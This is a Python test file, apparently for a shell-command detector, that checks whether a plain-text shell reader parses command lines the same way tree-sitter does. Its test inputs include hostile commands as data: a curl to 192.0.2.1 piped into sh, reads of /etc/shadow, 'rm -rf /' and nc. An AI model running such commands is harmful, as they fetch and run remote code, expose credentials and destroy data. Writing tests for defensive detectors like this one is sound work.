"""Each shortcut the shell reader takes gives what the general path gives (hypothesis).

The plain-text reader (``shell.tree``: words, simple quotes, backslash escapes, list and pipeline
operators, file redirections) is compared with tree-sitter reading the same text, through the whole
expansion (``normalize``): the segments, pipelines, snippet and programs run must be the same.
"""

from __future__ import annotations

import os
import warnings
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.errors import NonInteractiveExampleWarning

from ssm_warden.detect.normalize import normalize
from ssm_warden.detect.shell import expand, plain, tree
from ssm_warden.detect.shell.syntax import Pipeline
from ssm_warden.detect.shell.words import canonical_hosts

_ESCAPABLE = "A0_./:=,@%+~*?[]{}^;|&()<>'\"$`\\!#- \t"
# Unescaped words are kept to characters where the plain reader and tree-sitter already agreed
# before escapes were read without tree-sitter ("ls ==", "x= a?a", "{}" are read differently, but
# not because of an escape); escaped words use every character.
_PIECES = st.sampled_from(
    [*"ab1./-_", "x", "tmp", "'q q'", '"d d"', "''", '""', "'$x'", '"a;b"'] + ["\\" + c for c in _ESCAPABLE]
)
# (A lone "-" before a redirection is another difference that has nothing to do with escapes.)
_WORDS = st.lists(_PIECES, min_size=1, max_size=5).map("".join).filter(lambda w: w != "-") | st.sampled_from(
    [
        "ls",
        "-la",
        "find",
        ".",
        "-name",
        "-exec",
        "\\;",
        "rm",
        "-rf",
        "cat",
        "/etc/shadow",
        "-print0",
        "sudo",
        "-u",
        "root",
        "bash",
        "-c",
        "env",
        "echo",
        "xargs",
        "-0",
        "grep",
        "curl",
        "5",
        "\\*.txt",
        "http://192.0.2.1/x",
        "nohup",
        "timeout",
        "\\{curl,-s,x\\}",
        "'id; whoami'",
    ]
)
_REDIRS = st.sampled_from([">", ">>", "<", "2>", "2>>", "1>", "2>&1", ">&2", "<&0"])


# A command has a program name, after assignments if any (tree-sitter reads a leading "{", "[" or
# "!" as syntax, and an assignment alone with a redirection differently from the plain reader).
_NAMES = st.sampled_from(
    [
        "ls",
        "find",
        "sudo",
        "bash",
        "env",
        "echo",
        "cat",
        "curl",
        "xargs",
        "rm",
        "nc",
        "\\curl",
        "c\\url",
        "/usr/bin/curl",
        "'curl'",
        '"cu"rl',
        "./run.sh",
        "/tmp/x",
        "ba\\sh",
        "\\.",
        "A=1 ls",
        "a=b x=1 id",
    ]
)


@st.composite
def _command(draw: Any) -> str:
    words = [draw(_NAMES), *draw(st.lists(_WORDS, max_size=5))]
    for _ in range(draw(st.integers(0, 2))):
        op = draw(_REDIRS)
        words.append(op if "&" in op else op + draw(st.sampled_from(["", " "])) + draw(_WORDS))
    return " ".join(words)


_TEXT = st.lists(
    # Not "&&", "||" or a newline: tree-sitter-bash binds the redirection of "a && b >f" (and of
    # "a | b <newline> c 2>&1") to more than the last command, a shell (and the plain reader) not.
    st.tuples(_command(), st.sampled_from([" | ", "|", " ; ", ";", " & "])),
    min_size=1,
    max_size=4,
).map(lambda parts: "".join(c + sep for c, sep in parts[:-1]) + parts[-1][0])


def _views(text: str) -> tuple[object, ...]:
    v = normalize(text)
    return (
        [(s.text, s.privileged, s.depth, s.child) for s in v.segments],
        v.pipelines,
        v.snippet_parts,
        v.privileged,
        v.truncated,
        [(e.argv, e.path, e.redirs, e.privileged, e.depth, e.pipeline, e.stage, e.via) for e in v.execs],
        v.pipeline_count,
    )


@contextmanager
def _tree_sitter_only() -> Iterator[None]:
    """The judged text itself read by tree-sitter, as every text with an escape was before the
    shortcut read escapes; what it runs (``bash -c …``) read as before, by ``parse``."""
    shortcut = expand.parse
    calls = 0

    def first_by_tree_sitter(text: str) -> list[Pipeline]:
        nonlocal calls
        calls += 1
        return tree.parse_tree(text) if calls == 1 else shortcut(text)

    expand.parse = first_by_tree_sitter
    try:
        yield
    finally:
        expand.parse = shortcut


@settings(max_examples=int(os.environ.get("FASTN", "1500")), deadline=None)
@given(_TEXT)
def test_plain_reader_reads_as_tree_sitter_does(text: str) -> None:
    # Given a command line of words, quotes, escapes, operators and redirections
    # When it is read by the plain-text shortcut (where it applies) and by tree-sitter alone
    fast = _views(text)
    with _tree_sitter_only():
        general = _views(text)
    # Then every view the rules see is the same
    assert fast == general


def test_the_generated_texts_take_the_shortcut() -> None:
    # The property above says something only if the shortcut is taken for most generated texts.
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", NonInteractiveExampleWarning)
        samples = [_TEXT.example() for _ in range(200)]
    read_plainly = [s for s in samples if plain.is_plain(s)]
    assert len(read_plainly) > 60
    assert sum(1 for s in read_plainly if "\\" in s) > 30


@pytest.mark.parametrize(
    "text",
    [
        "ls\n\\curl -s http://192.0.2.1/x | sh",
        "find . -name \\*.c\nrm -rf a\\ b",
        "cd /tmp\n  \\rm -rf \\/",
        "echo a\\;b\ncat /etc/sha\\dow",
    ],
)
def test_escapes_on_later_lines_read_as_tree_sitter_reads_them(text: str) -> None:
    fast = _views(text)
    with _tree_sitter_only():
        general = _views(text)
    assert fast == general


@settings(max_examples=500, deadline=None)
@given(st.lists(st.text(alphabet="0123456789xX:/.abc٣²", max_size=14), min_size=1, max_size=4))
def test_words_skipped_by_the_host_guard_are_never_rewritten(words: list[str]) -> None:
    # Given the words of a command that the guard says cannot name a numeric host
    if expand._may_name_host("\x00".join(words)):
        return
    # Then rewriting numeric host forms would not have changed any of them
    assert [canonical_hosts(w) for w in words] == words
